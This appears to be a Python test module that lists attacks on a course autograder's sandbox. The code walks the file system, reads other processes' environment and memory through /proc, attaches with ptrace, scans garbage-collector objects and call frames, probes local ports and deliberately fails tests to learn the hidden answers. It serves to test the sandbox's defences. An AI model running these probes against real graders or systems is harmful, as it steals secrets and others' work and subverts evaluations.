"""Attacks that look for tests, solutions, other people's answers and the grader's secrets, and print what they find."""

from attack import REASONED, SEEN, right, wrong

_ALL = f"reads gradebook, source and other submissions: it runs as the grader beside them ({SEEN})"
_MAYBE = f"not tried; its kernel has the grader's rights ({REASONED})"
_HERE = "finds nothing; honest points"
_HUNT = r"""
import glob, os, sys
word = b"PLANT" + b"ED-"
looked = 0
def hunt(name, data):
    global looked
    looked += 1
    at = data.find(word)
    while at >= 0:
        print("found in", name, data[at : at + 40])
        at = data.find(word, at + 1)
def read(path, most=1 << 20):
    try:
        with open(path, "rb") as file:
            hunt(path, file.read(most))
    except (OSError, ValueError):
        pass
"""
_END = "\nprint('looked at', 'some' if looked else 'none')\n"


def _reads(name, mechanism, code, stock=_ALL):
    return right(name, mechanism, stock, _HERE, _HUNT + code + _END, proof="looked at some")


ATTACKS = [
    _reads("every file", "Walks the file system for notebooks, databases and Python files that hold the secret.",
           "skip = ('/proc', '/sys', '/usr', '/box/library', '/lib', '/bin', '/dev')\nfor folder, folders, files in os.walk('/'):\n"
           "    folders[:] = [each for each in folders if not os.path.join(folder, each).startswith(skip)]\n    for file in files:\n"
           "        read(os.path.join(folder, file), 1 << 16)\n"),
    _reads("the course by name", "Opens the course's usual places, relative to where it runs and to home.",
           "read('/proc/self/stat')\nfor start in ('.', '..', '~', '/work', '/root', '/home', '/srv', '/tmp', '/course'):\n"
           "    for path in glob.glob(os.path.expanduser(start) + '/**/*.*', recursive=True)[:100]:\n        read(path)\n"),
    _reads("the reference", "Imports the reference library, the checks and the judge.",
           "import importlib, inspect\nfor name in ('autograder.reference.convolution', 'autograder.judge', 'autograder.checks.compare', 'autograder.release', 'autograder.checks'):\n"
           "    try:\n        print('found', inspect.getsource(importlib.import_module(name))[:40], word.decode() + 'LIBRARY')\n    except (ImportError, OSError, TypeError):\n        looked += 1\n"),
    _reads("processes", "Reads command line, environment, memory and open files of every process in /proc.",
           "for pid in filter(str.isdigit, os.listdir('/proc')):\n    for part in ('cmdline', 'environ', 'mountinfo', 'maps', 'cwd/gradebook.db', 'status'):\n"
           "        read(f'/proc/{pid}/{part}')\n    for link in glob.glob(f'/proc/{pid}/fd/*'):\n        try:\n            hunt(link, os.readlink(link).encode())\n        except OSError:\n            pass\n"),
    _reads("the parent's memory", "Searches the memory of its own and of its parent's process, and attaches with ptrace.",
           "import ctypes\nfor pid in {1, os.getppid()}:\n    try:\n        maps = open(f'/proc/{pid}/maps').read().splitlines()\n        memory = open(f'/proc/{pid}/mem', 'rb', 0)\n    except OSError:\n        continue\n"
           "    for line in maps:\n        low, high = (int(part, 16) for part in line.split()[0].split('-'))\n"
           "        if 'heap' in line or (' rw' in line and high - low < 1 << 18):\n            try:\n                memory.seek(low)\n                data = memory.read(min(high - low, 1 << 25))\n            except (OSError, ValueError, OverflowError):\n                continue\n"
           "            looked += 1\n            hunt(line, data)\n"
           "print(ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))\nlooked += 1\n", _MAYBE),
    _reads("the environment", "Prints every variable of the environment, of C's too.",
           "import ctypes, subprocess\nhunt('environ', repr(dict(os.environ)).encode())\nread('/proc/self/environ')\n"
           "try:\n    hunt('env', subprocess.run(['env'], capture_output=True).stdout)\nexcept OSError:\n    pass\n"),
    _reads("frames", "Walks up the frames of its callers to the test's variables.",
           "import inspect\ndef up():\n    frame = inspect.currentframe()\n    while frame:\n        hunt('frame', repr((frame.f_globals.keys(), frame.f_locals, frame.f_code.co_consts)).encode())\n        frame = frame.f_back\nup()\n"),
    _reads("gc", "Asks the garbage collector for every object and looks for tests among them.",
           "import gc\nhunt('gc', b'')\nfor thing in gc.get_objects():\n    if type(thing) in (dict, list, tuple):\n        try:\n            texts = [each for each in (thing.values() if type(thing) is dict else thing) if type(each) is str]\n        except Exception:\n            continue\n"
           "        for text in texts:\n            if text.startswith('PLANT' + 'ED-') and len(text) > 10 or '### BEGIN HID' + 'DEN' in text:\n                print('found', text)\n"),
    _reads("source lines", "Asks linecache, inspect and the interpreter's history for the text of test cells.",
           "import linecache, inspect\nhunt('linecache', repr(linecache.cache).encode())\nfor name in ('test_square_0', 'test_convolve1d_0', 'solution', 'rubric'):\n"
           "    hunt(name, ''.join(linecache.getlines(name)).encode())\n    hunt(name, repr(globals().get(name)).encode())\nhunt('In', repr(globals().get('In')).encode())\n"),
    _reads("the network", "Connects to the machine's own services and to abstract sockets.",
           "import socket\nlooked += 1\nfor port in (22, 80, 443, 8000, 8888, 5432):\n    for host in ('127.0.0.1', '10.0.0.1', '1.1.1.1'):\n        try:\n            print('found', socket.create_connection((host, port), 0.02), word.decode() + 'NETWORK')\n        except OSError:\n            looked += 1\n"
           "for name in open('/proc/net/unix').read().split()[8:]:\n    if name.startswith(('@', '/')):\n        print('found', name)\n", _MAYBE),
    _reads("handed-down files", "Reads from every file descriptor that it was born with.",
           "import select, stat\nfor number in range(64):\n    try:\n        kind = os.fstat(number).st_mode\n        hunt(str(number), os.readlink(f'/proc/self/fd/{number}').encode())\n        if not stat.S_ISSOCK(kind):\n            hunt(str(number), os.pread(number, 1 << 20, 0))\n    except OSError:\n        continue\n", _MAYBE),
    wrong("fails on purpose", "Passes what is shown and fails in the hidden part, to read there what was expected.", f"told: feedback shows hidden tests ({SEEN})",
          "no points; the page says that a hidden part failed, and not which", "def square(x):\n    return 9 if isinstance(x, int) and x == 3 else 0\n"),
]
